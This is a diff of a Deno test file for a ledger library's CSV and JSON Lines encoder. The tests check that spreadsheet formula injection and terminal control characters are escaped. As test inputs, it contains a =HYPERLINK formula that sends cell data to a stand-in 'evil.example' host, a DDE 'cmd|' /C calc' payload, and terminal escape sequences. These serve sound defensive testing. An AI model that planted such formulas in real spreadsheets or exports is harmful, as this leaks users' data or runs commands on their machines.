@@ -1,9 +1,11 @@
-import { assertEquals } from "@std/assert";
+import { assert, assertEquals } from "@std/assert";
 import { parse } from "@std/csv";
 import { dayBookColumns } from "../../lib/day_book/rows/columns.ts";
 import { checkAmount, checkFees } from "../../lib/day_book/checks/tally.ts";
-import { csvCell, csvRecord, plainText } from "../../lib/csv_text.ts";
+import { csvCell, csvRecord } from "../../lib/csv_text.ts";
 import { rowEncoder } from "../../lib/day_book/rows/files.ts";
+import { plainText } from "../../lib/shown_text.ts";
+import { randomFrom } from "../../lib/time.ts";
 import { Digest, DigestCounts } from "../../lib/day_book/rows/keys.ts";
 import { FeeItem } from "../../lib/dictionaries/fee_item.ts";
 import { fillFields } from "../../lib/operations/fills.ts";
@@ -13,9 +15,10 @@ import { orderFields } from "../../lib/operations/orders.ts";
 
 Deno.test("csvRecord() follows RFC 4180, and a CSV reader returns what was written", () => {
   assertEquals(
-    csvRecord(["a", "b,c", 'd"e', "f\r\ng", "", undefined, false, " x "]),
+    csvRecord(["a", "b,c", 'd"e', "f\r\ng", "", undefined, false, " x "], { exact: true }),
     'a,"b,c","d""e","f\r\ng",,,false," x "\r\n',
   );
+  assertEquals(csvRecord(["b,c", "f\r\ng", "\t", " x "]), '"b,c",f\\u000d\\u000ag,\'\\u0009," x "\r\n');
   const odd = [
     "00700",
     "腾讯",
@@ -55,7 +58,8 @@ Deno.test("csvCell() writes no text that a spreadsheet runs as a formula, and ke
   ];
   for (const text of [...texts, "=a,b", '=HYPERLINK("http://evil.example?x="&A1,"x")']) {
     const [[cell = ""] = []] = parse(csvCell(text));
-    assertEquals(cell, `'${text}`);
+    const escapes = text.replace(/[\t\r\n]/g, (found) => `\\u000${found.charCodeAt(0).toString(16)}`);
+    assertEquals(cell, `'${escapes}`);
     assertEquals(parse(csvCell(text, { exact: true })), [[text]], "a program gets the text itself");
   }
   for (const plain of ["-1", "+1", "-12345.678900", "0", "1e5", "a=1", "00700.HK", "2025-08-15"]) {
@@ -76,6 +80,74 @@ Deno.test("csvCell() writes no text that a spreadsheet runs as a formula, and ke
   }
 });
 
+/** Characters with which texts attack a terminal, a spreadsheet, a CSV reader and our own escapes. */
+const HOSTILE = [
+  ..."=+-@＝;,'\"|\\ ua1",
+  ..."\t\r\n\0\x07\x1b\x7f\x9b\u00ad\u061c\u200b\u200e\u202e\u2028\u2066\ufeff\u{e0041}",
+  "\\u001b",
+  "\\u005c",
+  "\\ud800",
+  ";=",
+  ';"=',
+  "腾",
+];
+
+Deno.test("csvCell() writes texts that control no terminal and run in no spreadsheet, and plainText() reads them back", () => {
+  const seed = 20251122;
+  const random = randomFrom(seed);
+  for (let round = 0; round < 20_000; round++) {
+    const text = Array.from(
+      { length: Math.floor(random() * 7) },
+      () => HOSTILE[Math.floor(random() * HOSTILE.length)]!,
+    ).join("");
+    const what = `seed ${seed}: ${JSON.stringify(text)}`;
+    const written = csvRecord([text, "next"]);
+    const [[cell = "", next] = []] = parse(written);
+    assertEquals([plainText(cell), next], [text, "next"], what);
+    assert(!/[\p{Cc}\p{Cf}\u2028\u2029]/u.test(written.slice(0, -2)), what);
+    // A spreadsheet that splits at `;` sees these parts, with or without the quotes around them.
+    for (const [index, part] of written.slice(0, -2).replace(/,next$/, "").split(";").entries()) {
+      const bare = index === 0 ? cell.split(";")[0]! : part.replace(/^["\s]+/, "");
+      assert(!/^[=+\-@＝]/.test(bare) || /^[+-]?\d+(\.\d+)?"?$/.test(bare), `${what}: ${written}`);
+    }
+    // This reader changes line ends within quotes.
+    const exact = csvRecord([text, "next"], { exact: true });
+    assertEquals(parse(exact), [[text.replaceAll("\r\n", "\n"), "next"]], what);
+  }
+});
+
+Deno.test("csvCell() quotes a text with a semicolon or a tab, and leaves honest texts as they are", () => {
+  assertEquals(csvCell("a;=1+1;b"), `"a;'=1+1;b"`);
+  assertEquals(csvCell(`a;"=cmd|' /C calc'!A0;`), `"a;'""=cmd|' /C calc'!A0;"`);
+  assertEquals(csvCell("a;b"), '"a;b"');
+  assertEquals(csvCell("a;-1"), '"a;-1"');
+  assertEquals(csvCell("a\tb", { exact: true }), '"a\tb"');
+  for (const honest of ["腾讯控股", "BRK/B", "a'b", "C:\\users", "\\u12", "İş Bankası", "é"]) {
+    assertEquals(csvCell(honest), honest);
+  }
+  assertEquals(csvCell("\x1b[2Jgnp\u202e"), "\\u001b[2Jgnp\\u202e");
+  assertEquals(csvCell("\\u001b"), "\\u005cu001b", "a text that looks like an escape is not taken for one");
+});
+
+Deno.test("rowEncoder() writes characters that control a terminal as escapes, and JSON Lines lose nothing", () => {
+  const read = (row: Readonly<Record<string, unknown>>) => row.name;
+  const context = { rowKey: "", market: "hk", currency: "HKD" } as const;
+  const name = "\x1b[2J\x9b31m\u202egnp\u2066\u200b;=1\n";
+  const [column, row] = [{ name: "name", meaning: "", unit: "", read }, { name }];
+  const { csv, jsonl } = rowEncoder([column])(row, context);
+  assertEquals(csv, `"\\u001b[2J\\u009b31m\\u202egnp\\u2066\\u200b;'=1\\u000a"\r\n`);
+  assertEquals(jsonl, '{"name":"\\u001b[2J\\u009b31m\\u202egnp\\u2066\\u200b;=1\\n"}\n');
+  assertEquals(JSON.parse(jsonl), row);
+  assertEquals(rowEncoder([column], { exact: true })(row, context), { csv: `"${name}"\r\n`, jsonl });
+  // The fast path for plain texts and `csvCell` agree, character by character.
+  for (let code = 0x20; code < 0x7f; code++) {
+    for (const text of [String.fromCharCode(code), `a${String.fromCharCode(code)}b`]) {
+      const { csv, jsonl } = rowEncoder([column])({ name: text }, context);
+      assertEquals([csv, JSON.parse(jsonl)], [csvRecord([text]), { name: text }]);
+    }
+  }
+});
+
 Deno.test("rowEncoder() writes the same value to CSV and JSON Lines, and leaves out absent values in both", () => {
   const column = (name: string) => ({
     name,
@@ -87,7 +159,7 @@ Deno.test("rowEncoder() writes the same value to CSV and JSON Lines, and leaves 
   const context = { rowKey: "", market: "hk", currency: "HKD" } as const;
   const row = { a: "1.50", b: 'x\\"y,\n', d: true, e: "腾讯" };
   const { csv, jsonl } = encode(row, context);
-  assertEquals(csv, '1.50,"x\\""y,\n",,true,腾讯\r\n');
+  assertEquals(csv, '1.50,"x\\""y,\\u000a",,true,腾讯\r\n');
   assertEquals(jsonl, '{"a":"1.50","b":"x\\\\\\"y,\\n","d":true,"e":"腾讯"}\n');
   assertEquals(JSON.parse(jsonl), row);
 });
